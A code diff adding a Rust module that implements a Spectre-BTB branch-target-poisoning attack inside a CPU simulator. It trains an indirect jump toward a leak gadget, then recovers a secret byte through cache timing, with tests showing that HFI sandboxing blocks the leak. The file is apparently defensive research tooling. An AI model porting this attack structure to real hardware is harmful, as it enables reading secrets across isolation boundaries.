@@ -1,0 +1,229 @@
+//! A Spectre-BTB style attack: poisoning indirect-branch target
+//! prediction.
+//!
+//! An indirect jump dispatches through a function pointer. Sixteen
+//! training runs point it at a leak gadget, filling the BTB. The attacker
+//! then rewrites the pointer to a benign target and flushes it; on the
+//! next dispatch the pointer load is slow, the BTB still predicts the
+//! *gadget*, and the gadget runs speculatively with an attacker-chosen
+//! index — transmitting the secret through the cache exactly as in the
+//! PHT variant.
+//!
+//! The paper notes (footnote 7) that gem5's BTB model cannot host the
+//! real TransientFail attack and models it "using concrete control flow
+//! that leaks secret data using the cache-side channel"; our simulator
+//! *does* speculate through its BTB, so this is a faithful (if simplified)
+//! in-place variant. HFI blocks it the same way: the gadget's speculative
+//! load fails its region check before touching the cache.
+
+use hfi_core::{Region, SandboxConfig};
+use hfi_sim::{AluOp, Cond, Label, Machine, MemOperand, Program, ProgramBuilder, Reg, Stop};
+
+use crate::layout::SpectreLayout;
+use crate::pht::{AttackOutcome, Protection, HIT_THRESHOLD};
+
+/// Byte address of the dispatched-through function pointer (inside the
+/// `len` protective region, so the defended victim may read and write it).
+fn fnptr_addr(layout: &SpectreLayout) -> u64 {
+    layout.len_addr + 8
+}
+
+/// Builds the BTB attack with concrete gadget/benign byte addresses.
+/// `gadget_pc`/`benign_pc` of 0 are placeholders for the first pass of the
+/// two-pass build (identical encoding lengths keep the layout stable).
+fn build(
+    layout: &SpectreLayout,
+    protection: Protection,
+    gadget_pc: i64,
+    benign_pc: i64,
+) -> (ProgramBuilder, Label, Label) {
+    let mut asm = ProgramBuilder::new(layout.code_base);
+    let idx = Reg(1);
+    let arr1 = Reg(2);
+    let arr2 = Reg(4);
+    let byte = Reg(6);
+    let tmp = Reg(7);
+    let iter = Reg(8);
+    let fnreg = Reg(9);
+    let t0 = Reg(10);
+    let t1 = Reg(11);
+    let fnp = Reg(12);
+    let lat_ptr = Reg(13);
+
+    if protection == Protection::Hfi {
+        asm.hfi_set_region(0, Region::Code(layout.code_region()));
+        for (i, region) in layout.protective_data_regions().into_iter().enumerate() {
+            asm.hfi_set_region(2 + i as u8, Region::Data(region));
+        }
+        asm.hfi_enter(SandboxConfig::hybrid().serialized());
+    }
+
+    asm.movi(arr1, layout.array1 as i64);
+    asm.movi(arr2, layout.array2 as i64);
+    asm.movi(lat_ptr, layout.latencies as i64);
+    asm.movi(fnp, fnptr_addr(layout) as i64);
+
+    // fnptr <- gadget initially.
+    asm.movi(tmp, gadget_pc);
+    asm.store(tmp, MemOperand::base_disp(fnp, 0), 8);
+
+    // The loop runs 4 rounds of 17 dispatches: in each round, phases
+    // 0–15 train the BTB (pointer = gadget, in-bounds index) and phase 16
+    // attacks (pointer rewritten to benign and flushed; the dispatch
+    // speculates into the stale gadget prediction with the evil index).
+    // Round 0's attack only warms the cold secret line; later rounds'
+    // attacks complete the transmit — the same retry structure real PoCs
+    // use. The probe array is flushed once, before round 0's attack, so
+    // only re-training warmth (slot 1) and the transmitted slot survive.
+    let loop_top = asm.label();
+    let train_setup = asm.label();
+    let dispatch = asm.label();
+    let cont = asm.label();
+    let skip_arr2_flush = asm.label();
+    let gadget = asm.label();
+    let benign = asm.label();
+    let probe = asm.label();
+    let phase = Reg(14);
+
+    asm.movi(iter, 0);
+    asm.place(loop_top);
+    asm.alu_ri(AluOp::Rem, phase, iter, 17);
+    asm.branch_i(Cond::Ne, phase, 16, train_setup);
+    // Attack phase: retarget + flush the pointer.
+    asm.movi(idx, layout.evil_index() as i64);
+    asm.movi(tmp, benign_pc);
+    asm.store(tmp, MemOperand::base_disp(fnp, 0), 8);
+    asm.fence();
+    asm.flush(MemOperand::base_disp(fnp, 0));
+    asm.branch_i(Cond::Ne, iter, 16, skip_arr2_flush);
+    asm.movi(byte, 0);
+    let flush_top = asm.label_here("flush_top");
+    asm.flush(MemOperand::full(arr2, byte, 1, 0));
+    asm.alu_ri(AluOp::Add, byte, byte, layout.stride as i64);
+    asm.branch_i(Cond::LtU, byte, (256 * layout.stride) as i64, flush_top);
+    asm.place(skip_arr2_flush);
+    asm.fence();
+    asm.jump(dispatch);
+    // Training phase: pointer = gadget, in-bounds index.
+    asm.place(train_setup);
+    asm.alu_ri(AluOp::And, idx, iter, (layout.array1_len - 1) as i64);
+    asm.movi(tmp, gadget_pc);
+    asm.store(tmp, MemOperand::base_disp(fnp, 0), 8);
+    asm.place(dispatch);
+    asm.load(fnreg, MemOperand::base_disp(fnp, 0), 8);
+    asm.jump_ind(fnreg); // single dispatch site: one BTB entry
+
+    asm.place(cont);
+    asm.alu_ri(AluOp::Add, iter, iter, 1);
+    asm.branch_i(Cond::LtU, iter, 4 * 17, loop_top);
+    asm.jump(probe);
+
+    // The leak gadget: dispatch target during training; speculative-only
+    // target during the attack.
+    asm.place(gadget);
+    asm.load(byte, MemOperand::full(arr1, idx, 1, 0), 1);
+    asm.alu_ri(AluOp::Shl, byte, byte, layout.stride.trailing_zeros() as i64);
+    asm.load(tmp, MemOperand::full(arr2, byte, 1, 0), 1);
+    asm.jump(cont);
+
+    // The benign target the rewritten pointer actually reaches.
+    asm.place(benign);
+    asm.jump(cont);
+
+    // Probe loop (identical to the PHT variant).
+    asm.place(probe);
+    asm.movi(iter, 0);
+    let probe_top = asm.label_here("probe_top");
+    asm.alu_ri(AluOp::Shl, byte, iter, layout.stride.trailing_zeros() as i64);
+    asm.fence();
+    asm.rdtsc(t0);
+    asm.load(tmp, MemOperand::full(arr2, byte, 1, 0), 1);
+    asm.fence();
+    asm.rdtsc(t1);
+    asm.alu(AluOp::Sub, t1, t1, t0);
+    asm.store(t1, MemOperand::full(lat_ptr, iter, 8, 0), 8);
+    asm.alu_ri(AluOp::Add, iter, iter, 1);
+    asm.branch_i(Cond::LtU, iter, 256, probe_top);
+
+    if protection == Protection::Hfi {
+        asm.hfi_exit();
+    }
+    asm.halt();
+    (asm, gadget, benign)
+}
+
+/// Builds the BTB attack program (two passes: the first discovers the
+/// gadget and benign byte addresses, the second bakes them in).
+pub fn build_attack(layout: &SpectreLayout, protection: Protection) -> Program {
+    // Placeholders with the same i32 encoding class as the real PCs.
+    let (first, gadget, benign) = build(layout, protection, 0x40_0000, 0x40_0000);
+    let gadget_idx = first.resolved(gadget).expect("gadget placed");
+    let benign_idx = first.resolved(benign).expect("benign placed");
+    let first_prog = first.finish();
+    let gadget_pc = first_prog.pc_of(gadget_idx) as i64;
+    let benign_pc = first_prog.pc_of(benign_idx) as i64;
+    let (second, _, _) = build(layout, protection, gadget_pc, benign_pc);
+    let program = second.finish();
+    debug_assert_eq!(program.pc_of(gadget_idx) as i64, gadget_pc);
+    program
+}
+
+/// Runs the Spectre-BTB attack and reports the probe verdict.
+pub fn run_attack(protection: Protection) -> AttackOutcome {
+    run_attack_with_secret(protection, b'I')
+}
+
+/// Like [`run_attack`] with a chosen non-zero secret byte.
+pub fn run_attack_with_secret(protection: Protection, secret: u8) -> AttackOutcome {
+    assert_ne!(secret, 0, "secret 0 aliases the blocked-load value");
+    let layout = SpectreLayout::new();
+    let program = build_attack(&layout, protection);
+    let mut machine = Machine::new(program);
+    for i in 0..layout.array1_len {
+        machine.mem.write(layout.array1 + i, 1, 1);
+    }
+    machine.mem.write(layout.len_addr, layout.array1_len, 8);
+    machine.mem.write(layout.secret_addr, secret as u64, 1);
+
+    let result = machine.run(10_000_000);
+    assert_eq!(result.stop, Stop::Halted, "attack program must run to completion");
+
+    let latencies: Vec<u64> =
+        (0..256).map(|i| machine.mem.read(layout.latencies + i * 8, 8)).collect();
+    let warm_indices = latencies
+        .iter()
+        .enumerate()
+        .filter(|(_, &lat)| lat < HIT_THRESHOLD)
+        .map(|(i, _)| i as u8)
+        .collect();
+    AttackOutcome {
+        latencies,
+        secret,
+        warm_indices,
+        cycles: result.cycles,
+        speculative_loads: result.stats.squashed_loads_executed,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn unprotected_victim_leaks_via_btb() {
+        let outcome = run_attack(Protection::None);
+        assert!(
+            outcome.leaked(),
+            "expected BTB leak; warm={:?} spec_loads={}",
+            outcome.warm_indices,
+            outcome.speculative_loads
+        );
+    }
+
+    #[test]
+    fn hfi_blocks_btb_leak() {
+        let outcome = run_attack(Protection::Hfi);
+        assert!(!outcome.leaked(), "warm={:?}", outcome.warm_indices);
+        assert!(outcome.latencies[outcome.secret as usize] >= HIT_THRESHOLD);
+    }
+}
